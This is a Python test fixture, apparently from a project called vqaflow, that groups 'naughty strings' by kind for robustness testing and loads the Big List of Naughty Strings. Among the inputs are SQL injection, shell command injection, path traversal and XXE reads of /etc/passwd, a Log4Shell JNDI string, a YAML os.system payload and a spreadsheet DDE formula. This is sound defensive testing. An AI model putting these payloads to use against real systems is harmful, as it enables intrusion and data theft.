"""Texts that break programs, made here by kind: those of the Big List of Naughty Strings, and of tables like ours.

The list itself is not in this repository. `corpus` reads it where the folder that VQAFLOW_CORPORA names has it.
"""

import json
import os
from pathlib import Path

import pytest

NAMES_OF_NOTHING = ("undefined", "null", "NULL", "None", "nil", "NaN", "#N/A", "(null)", "-", "N/A", "true", "FALSE")
OBJECTS = ("__proto__", "constructor", "hasOwnProperty", "toString", "then", "__class__", "self")
NUMBERS = (
    "0",
    "-0",
    "007",
    "1.0",
    "1e5",
    "1e400",
    "-Infinity",
    "0x1F",
    "1,000.5",
    "1/0",
    "12_000",
    "٣",
    "৩",
    "½",
    "1e",
)
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://192.0.2.1","x")', "=cmd|' /C calc'!A0", "\t=1")
MARKUP = (
    "<script>document.title=1</script>",
    '"><img src=x onerror=document.title=1>',
    "</script><script>document.title=1</script>",
    "<!--<script>",
    "<svg/onload=document.title=1>",
    "javascript:document.title=1",
    "<iframe src='javascript:document.title=1'>",
    "&lt;b&gt; &amp;amp; &#60;",
    "<style>*{display:none}</style>",
    '<base href="http://192.0.2.1/">',
    "]]><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "' autofocus onfocus='document.title=1",
)
CODE = (
    "'; DROP TABLE rows; --",
    "1' OR '1'='1",
    "$(touch owned)",
    "`touch owned`",
    "; touch owned #",
    "../../../../etc/passwd",
    "C:\\con\\nul",
    "file%00.png",
    "%s%s%n%p",
    "%(asctime)s",
    "{0.__class__.__mro__}",
    "{question}",
    "{fold} {wildcards.member}",
    "{{7*7}}",
    "{% include 'x' %}",
    "${jndi:ldap://192.0.2.1/x}",
    "!!python/object/apply:os.system [id]",
    "(a+)+$",
    ".*[",
    "\\",
    "\\N{SNOWMAN} \\u0041 \\x41",
    "eval('1')",
)
CONTROL = (
    "a\x07b\x08c",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "a\x7fb",
    "a\x85b",
    "a\x9b31mb",
    "a\x0bb\x0cc",
    "one\rtwo",
    "one\ntwo",
    "one\r\ntwo",
    "a\u2028b\u2029c",
    "a\x1cb\x1dc\x1eb",
    "a\x01b\x02c",
    "x\x1a",
)
INVISIBLE = (
    "a\u200bb\u200cc\u200dd",
    "a\u00adb",
    "\u202eabc\u202c",
    "\u2066abc\u2069",
    "\ufeffabc",
    "a\u180eb",
    "\u00a0a\u3000",
    "a\U000e0041\U000e007fb",
    "\u2060a\u2063b",
    " a ",
)
LETTERS = (
    "ㅅㅏㄹㅏㅁ",
    "\u1112\u1161\u11ab",
    "한\u0301글",
    "Z\u0351\u036b\u0343a\u0342\u0300l\u0334g\u0321o",
    "\u0301\u0302",
    "ｆｕｌｌ ｗｉｄｔｈ ＜ｂ＞",
    "ﬁﬂ ﷺ ㎏ ①",
    "ǅ ǆ ß ẞ İ ı",
    "社會科學院語學研究所",
    "مُنَاقَشَةُ سُبُلِ",
    "הָיְתָה test",
    "𝕿𝖍𝖊 𝐪𝐮𝐢𝐜𝐤 𠜎𠜱",
    "\u0915\u094d\u200d\u0937",
    "ก็็็็็็",
    "˙ɐnbᴉlɐ",
)
SIGNS = (
    "👩‍👩‍👧‍👦 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "🇰🇷🇸🇪 👍🏿",
    "\ue000\uf8ff",
    "\ufffd\ufffe\uffff",
    "\U0010ffff\U0001fffe",
    "¯\\_(ツ)_/¯",
    "“curly” ‘quotes’ „low“ «guillemets»",
    '"quoted"',
    '""""',
    "'",
    ",",
    ";|\t",
    "-----",
    "…",
    "Ã© â€œ ì•ˆ",
)
LONG = ("x" * 20_000, "가" * 20_000, "a " * 5000, "\u0301" * 2000 + "a", "(" * 3000, "<" * 3000)
KINDS = {
    "names of nothing": NAMES_OF_NOTHING,
    "names of objects": OBJECTS,
    "numbers": NUMBERS,
    "formulas": FORMULAS,
    "markup": MARKUP,
    "code": CODE,
    "control characters": CONTROL,
    "invisible characters": INVISIBLE,
    "letters": LETTERS,
    "signs": SIGNS,
    "long texts": LONG,
}
ALL = tuple(text for texts in KINDS.values() for text in texts)
CASES = [pytest.param(text, id=f"{kind} {i}") for kind, texts in KINDS.items() for i, text in enumerate(texts)]


def corpora() -> Path:
    """The folder of published corpora; skips the test if VQAFLOW_CORPORA names none."""
    named = os.environ.get("VQAFLOW_CORPORA")
    if not named:
        pytest.skip("VQAFLOW_CORPORA names no folder of corpora (see docs/reliability.md)")
    return Path(named)


def corpus() -> list[str]:
    """The Big List of Naughty Strings, without what UTF-8 cannot hold and what nobody can see."""
    texts = json.loads((corpora() / "blns.json").read_text(encoding="utf-8"))
    return [text for text in dict.fromkeys(texts) if "\0" not in text and text.isprintable() | bool(text.strip())]
